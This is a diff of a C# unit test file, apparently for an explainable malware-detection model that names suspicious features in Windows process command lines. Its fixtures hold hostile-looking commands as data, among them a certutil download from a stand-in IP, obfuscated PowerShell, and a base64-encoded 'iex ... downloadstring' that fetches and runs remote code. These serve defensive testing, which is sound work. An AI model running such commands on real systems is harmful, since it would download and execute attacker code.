@@ -13,12 +13,18 @@ public class ReasonTests
     private static readonly ProcessEvent[] Events =
     [
         .. Tiny.Rows.Take(40).Select(r => r.Event),
-        Some.ProcessEvent("winword.exe", "certutil.exe", @"CertUtil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt"),
+        Some.ProcessEvent(
+            "winword.exe", "certutil.exe", @"CertUtil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt"),
         Some.ProcessEvent("cmd.exe", "cmd.exe", "cmd /c p^o^w^er\"sh\"ell -NoP \t -w Hidden 'down'+'load' 0xDEADBEEF"),
-        Some.ProcessEvent("cmd.exe", "powershell.exe", "powershell -enc " + Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("iex (new-object net.webclient).downloadstring('http://192.0.2.1/a')"))),
+        Some.ProcessEvent(
+            "cmd.exe",
+            "powershell.exe",
+            "powershell -enc " + Convert.ToBase64String(
+                System.Text.Encoding.Unicode.GetBytes("iex (new-object net.webclient).downloadstring('http://192.0.2.1/a')"))),
         Some.ProcessEvent("x.exe", "y.exe", ""),
         Some.ProcessEvent("a.exe", "b.exe", string.Join(' ', Enumerable.Range(0, 3000).Select(i => $"w{i}.{i}"))),
-        Some.ProcessEvent("a.exe", "b.exe", "b.exe \ud800 \u202e ... .. . 'a' \"\" atomics/atomic redcanaryco \\\\?\\C:\\Users\\me\\.ssh. 10.0.0.1."),
+        Some.ProcessEvent(
+            "a.exe", "b.exe", "b.exe \ud800 \u202e ... .. . 'a' \"\" atomics/atomic redcanaryco \\\\?\\C:\\Users\\me\\.ssh. 10.0.0.1."),
         Some.ProcessEvent() with { Parent = null, User = null, Child = new ChildProcess { Name = "" } },
     ];
 
@@ -33,7 +39,11 @@ public class ReasonTests
         foreach (var e in Events)
         {
             var plain = PlainText(e);
-            foreach (var reason in Model.Explain(e, int.MaxValue).Where(r => r.Feature.StartsWith("command_line.", StringComparison.Ordinal) && r.Feature.Contains(':', StringComparison.Ordinal)))
+            foreach (
+                var reason in Model.Explain(e, int.MaxValue).Where(
+                    r =>
+                        r.Feature.StartsWith("command_line.", StringComparison.Ordinal)
+                            && r.Feature.Contains(':', StringComparison.Ordinal)))
             {
                 Assert.True(reason.Text is not null, $"{reason.Feature} in: {plain[..Math.Min(plain.Length, 200)]}");
                 Assert.Contains(reason.Text, plain, StringComparison.Ordinal);
@@ -49,7 +59,10 @@ public class ReasonTests
     {
         var e = Some.ProcessEvent("winword.exe", "certutil.exe", "certutil -f http://203.0.113.27/Setup77.txt");
 
-        var texts = Reasons.Strongest(e, [("command_line.word:http #host", 3), ("command_line.word:*.txt", 2), ("command_line.trigram:#ho", 1)], 3).Select(r => r.Text);
+        var texts = Reasons.Strongest(
+            e,
+            [("command_line.word:http #host", 3), ("command_line.word:*.txt", 2), ("command_line.trigram:#ho", 1)],
+            3).Select(r => r.Text);
 
         Assert.Equal(["http://203.0.113.27", "setup77.txt", "203.0.113.27"], texts);
     }
@@ -68,7 +81,8 @@ public class ReasonTests
     [Fact]
     public void Buckets_that_nothing_of_the_event_fell_into_are_one_reason()
     {
-        var reasons = Reasons.Strongest(Some.ProcessEvent(), [("command_line.word.017", -0.2), ("command_line.word.400", -0.3), ("child.of_windows", 0.4)], 9);
+        var reasons = Reasons.Strongest(
+            Some.ProcessEvent(), [("command_line.word.017", -0.2), ("command_line.word.400", -0.3), ("child.of_windows", 0.4)], 9);
 
         Assert.Equal([("command_line.word.absent", -0.5), ("child.of_windows", 0.4)], reasons.Select(r => (r.Feature, r.Weight)));
         Assert.Equal("no further words that the model knows", reasons[0].Description);
@@ -98,15 +112,22 @@ public class ReasonTests
     [InlineData("child.lolbin", "no LOLBin as the child")]
     [InlineData("parent.place.user_temp", "no parent in a temporary folder")]
     public void A_feature_is_said_in_words(string feature, string words) =>
-        Assert.Equal(words, Assert.Single(Reasons.Strongest(Some.ProcessEvent("winword.exe", "notepad.exe", "notepad -fx"), [(feature, 1)], 1)).Description);
+        Assert.Equal(
+            words,
+            Assert.Single(
+                Reasons.Strongest(Some.ProcessEvent("winword.exe", "notepad.exe", "notepad -fx"), [(feature, 1)], 1)).Description);
 
     [Theory]
     [InlineData("cmd.exe", "certutil.exe", "certutil -f", "child.lolbin", "LOLBin as the child: certutil.exe, T1105 Ingress Tool Transfer")]
     [InlineData("mshta.exe", "a.exe", "a", "parent.lolbin", "LOLBin as the parent: mshta.exe, T1218.005 Mshta")]
-    [InlineData("a.exe", "cmd.exe", "cmd /c regsvr32 /s a.dll", "inner.lolbin", "LOLBin inside the shell's command: regsvr32.exe, T1218.010 Regsvr32")]
-    public void A_program_that_attackers_live_off_is_named_with_its_technique(string parent, string child, string commandLine, string feature, string words) =>
+    [InlineData("a.exe", "cmd.exe", "cmd /c regsvr32 /s a.dll", "inner.lolbin",
+        "LOLBin inside the shell's command: regsvr32.exe, T1218.010 Regsvr32")]
+    public void A_program_that_attackers_live_off_is_named_with_its_technique(
+        string parent, string child, string commandLine, string feature, string words) =>
         Assert.Equal(words, Assert.Single(Reasons.Strongest(Some.ProcessEvent(parent, child, commandLine), [(feature, 1)], 1)).Description);
 
-    /// <summary>The arguments in plain form, taken from the reasons' side only through what everyone can check: lower case, and what base64 hides.</summary>
+    /// <summary>
+    /// The arguments in plain form, taken from the reasons' side only through what everyone can check: lower case, and what base64 hides.
+    /// </summary>
     private static string PlainText(ProcessEvent e) => PlainCommandLine.Of(e);
 }
